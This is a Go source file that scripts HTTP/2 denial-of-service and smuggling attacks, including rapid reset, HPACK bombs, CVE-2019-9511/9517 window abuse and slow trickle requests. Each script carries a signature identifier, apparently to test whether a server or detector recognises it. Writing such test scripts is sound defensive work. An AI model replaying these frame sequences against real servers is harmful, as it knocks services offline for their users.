package endpoint

import (
	"bytes"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// AttackScripts play the attacks that signatures are known of, one each: their
// Breaks is the signature's identifier, and their names are made of it. Each goes
// a little beyond the threshold from which it counts as one. Each call makes them
// anew.
//
// What takes long does so on the script's clock: see [Script.Slow].
func AttackScripts() []Script {
	return slices.Concat(floods(), bombs(), slowAttacks(), otherAttacks())
}

// attack is a script for a signature; the server gives up in the end.
func attack(id, title string, runs ...[]Step) Script {
	return Script{
		Name: "attack-" + strings.ToLower(id), Title: title, Breaks: id,
		Steps: acquainted(steps(hello(nil, nil), steps(runs...), goAway(Server, http2.ErrCodeEnhanceYourCalm))),
	}
}

// reluctant is an attack by a client whose streams begin with a small window.
func reluctant(id, title string, window uint32, runs ...[]Step) Script {
	s := attack(id, title, runs...)
	s.Steps = append(hello(Settings{setting(http2.SettingInitialWindowSize, window)}, nil), s.Steps[len(hello(nil, nil)):]...)
	return s
}

// nth is the identifier of a client's nth stream, from 0.
func nth(i int) uint32 { return uint32(2*i + 1) }

// floods are attacks by frames that cost the server more than the client.
func floods() []Script {
	const n = 120 // in no time at all; the signatures begin at 100 a second
	return []Script{
		attack("AT-01", "requests cancelled as soon as they are made", bursts(n, func(i int) []Action {
			return []Action{asks(nth(i)), ResetStream{Stream: nth(i), Code: http2.ErrCodeCancel}}
		})),
		attack("AT-02", "requests that make the server reset them", provoked(24)),
		attack("AT-05", "pings without end", []Step{repeat(n, func(i int) Action { return Ping{Opaque: opaque(strconv.Itoa(i))} })}),
		attack("AT-06", "a stream moved about in the tree, over and over", []Step{repeat(n, func(i int) Action {
			return Priority{Stream: 1, PriorityParam: http2.PriorityParam{StreamDep: nth(1 + i%2), Weight: uint8(i)}}
		})}),
		attack("AT-07", "requests that the server has to refuse", refusals(n)),
		attack("AT-08", "settings without waiting for an acknowledgment", []Step{repeat(60, func(i int) Action {
			return Settings{setting(http2.SettingInitialWindowSize, uint32(65535+i))}
		})}),
		attack("AT-11", "frames without anything in them", []Step{client(posts(1)), repeat(n, func(int) Action { return Data{Stream: 1} })}),
		attack("AT-18", "windows opened octet by octet", []Step{repeat(n, func(int) Action { return WindowUpdate{Increment: 1} })}),
		attack("AT-19", "a table emptied and filled in turn", tableFlipFlop(12)),
	}
}

// bursts sends the actions of n rounds, some rounds at once.
func bursts(n int, round func(i int) []Action) []Step {
	const burst = 20
	var run []Step
	for i := 0; i < n; i += burst {
		var send []Action
		for j := i; j < min(i+burst, n); j++ {
			send = append(send, round(j)...)
		}
		run = append(run, client(send...))
	}
	return run
}

// provoked is CVE-2025-8671, each request in cleartext.
func provoked(n int) []Step {
	var run []Step
	for i := range n {
		run = append(run,
			client(asks(nth(i)), WindowUpdate{Stream: nth(i)}),
			server(ResetStream{Stream: nth(i), Code: http2.ErrCodeProtocol}))
	}
	return run
}

// refusals are requests without a path, each of which the server resets.
func refusals(n int) []Step {
	var send, refuse []Action
	for i := range n {
		send = append(send, Headers{Stream: nth(i), Fields: fields(":method", "GET", ":scheme", "http"), EndStream: true})
		refuse = append(refuse, ResetStream{Stream: nth(i), Code: http2.ErrCodeProtocol})
	}
	return []Step{client(send...), server(refuse...)}
}

// bombs are attacks by field sections.
func bombs() []Script {
	return []Script{
		attack("AT-03", "a field block that does not end", []Step{endlessBlock(25)}),
		attack("AT-09", "fields with neither name nor value", []Step{emptyNames(12)}),
		attack("AT-12", "one entry of the table, named again and again", []Step{repeated("x-bomb", strings.Repeat("bomb", 115), 180)}),
		reluctant("AT-13", "more fields than anyone has use for, and no room for an answer", 0, []Step{repeated("cookie", "a=b", 1100)}),
		attack("AT-20", "field values that are requests to an HTTP/1.1 server behind", smuggling()),
	}
}

// repeated is a request with a field that is put into the table, and then named n
// times by its index, an octet each (RFC 7541, Section 6.1).
func repeated(name, value string, n int) Step {
	section := request("GET", "/", name, value)
	field := section[len(section)-1]
	octets := newSpeaker(Client).encode(section)
	octets = append(octets, bytes.Repeat([]byte{0x80 | 62}, n)...)
	for range n {
		section = append(section, field)
	}
	return client(Headers{Stream: 1, Fields: section, Block: octets, EndStream: true})
}

// slowAttacks bind the server by doing little.
func slowAttacks() []Script {
	const streams = 6
	four := Settings{setting(http2.SettingMaxConcurrentStreams, 4)}
	pinned := attack("AT-21", "all streams that are allowed, and nothing on them", []Step{
		repeat(4, func(i int) Action { return posts(nth(i)) }), after(late, client(Ping{})), server(Ping{Ack: true}),
	})
	pinned.Steps = append(hello(nil, four), pinned.Steps[len(hello(nil, nil)):]...)
	return []Script{
		reluctant("AT-04", "responses cut into tiny DATA frames", 8, dribbles(streams, 20)),
		attack("AT-10", "windows of HTTP/2 wide open while those of TCP are shut", deaf(6)),
		reluctant("AT-14", "responses that are not read", 100, unread(streams)),
		attack("AT-15", "requests that trickle", trickle(streams)),
		pinned,
	}
}

// dribbles is CVE-2019-9511: windows opened by eight octets at a time.
func dribbles(streams, rounds int) []Step {
	const window = 8
	body := text(window * rounds)
	run := []Step{repeat(streams, func(i int) Action { return asks(nth(i)) })}
	for round := range rounds {
		var send, widen []Action
		for i := range streams {
			if round == 0 {
				send = append(send, ok(nth(i), "content-length", strconv.Itoa(len(body))))
			}
			send = append(send, Data{Stream: nth(i), Body: body[window*round : window*(round+1)], EndStream: round == rounds-1})
			widen = append(widen, WindowUpdate{Stream: nth(i), Increment: window})
		}
		run = append(run, server(send...))
		if round < rounds-1 {
			run = append(run, client(widen...))
		}
	}
	return run
}

// deaf is CVE-2019-9517: the client's TCP takes nothing, and requests go on.
func deaf(requests int) []Step {
	run := []Step{client(WindowUpdate{Increment: 1 << 30}, asks(1))}
	answer := server(ok(1, "content-length", "30000"), data(1, 1<<14))
	answer.Deaf = true
	run = append(run, answer)
	for i := range requests {
		run = append(run, after(time.Second, client(asks(nth(i+1)))))
	}
	return run
}

// unread is CVE-2016-1546: each response fills its window and waits.
func unread(streams int) []Step {
	return []Step{
		repeat(streams, func(i int) Action { return asks(nth(i)) }),
		each(Server, streams, func(i int) []Action {
			return []Action{ok(nth(i), "content-length", "1000"), data(nth(i), 100)}
		}),
		after(late, client(Ping{})), server(Ping{Ack: true}),
	}
}

// trickle sends an octet of each body now and then.
func trickle(streams int) []Step {
	run := []Step{repeat(streams, func(i int) Action { return posts(nth(i), "content-length", "1000") })}
	for range 6 {
		run = append(run, after(2*time.Second, each(Client, streams, func(i int) []Action { return []Action{data(nth(i), 1)} })))
	}
	return run
}

func each(from Side, n int, actions func(i int) []Action) Step {
	step := Step{From: from}
	for i := range n {
		step.Send = append(step.Send, actions(i)...)
	}
	return step
}

// otherAttacks are those of no kind.
func otherAttacks() []Script {
	// How many come in a second is up to the round trip: more than 50 where it is
	// below 5 ms.
	churn := Script{
		Name: "attack-at-22", Title: "many connections with next to nothing on them", Breaks: "AT-22", Connections: 60,
		Steps: []Step{
			client(Preface{}, Settings{}, asks(1)),
			server(Settings{}, SettingsAck{}, done(1)),
			client(SettingsAck{}, GoAway{}),
		},
	}
	return []Script{
		attack("AT-16", "a tree that is deeper than any page", []Step{repeat(120, func(i int) Action {
			return Priority{Stream: nth(i + 1), PriorityParam: http2.PriorityParam{StreamDep: nth(i), Weight: 15}}
		})}),
		attack("AT-17", "a stream identifier that is used again", []Step{client(asks(1)), server(done(1)), client(asks(1))}),
		churn,
	}
}
